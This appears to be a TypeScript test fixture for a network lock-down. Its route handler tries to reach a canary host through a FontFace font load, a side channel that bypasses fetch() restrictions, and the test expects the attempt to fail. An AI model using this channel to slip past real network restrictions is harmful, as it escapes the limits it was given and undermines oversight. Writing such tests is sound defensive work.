/**
 * Attack: make the browser fetch a URL through a font load (FontFace), a request that a
 * network lock-down of fetch() does not see. Node has no FontFace: there the app just fails.
 * Must happen: nothing reaches the canary; the report is fail or error.
 */
import { Vial } from "vial";
import { canary } from "./canary";

export const app = new Vial();

app.get("/", async () => {
  const FontFaceClass = (globalThis as { FontFace?: new (family: string, source: string) => { load(): Promise<unknown> } }).FontFace;
  if (FontFaceClass) {
    try {
      await new FontFaceClass("leak", `url(http://${canary.host}:${canary.port}/font.woff2)`).load();
      console.log("LEAKED: the font loaded");
    } catch {
      // Refused.
    }
  }
  return "Hello, Vial!";
});
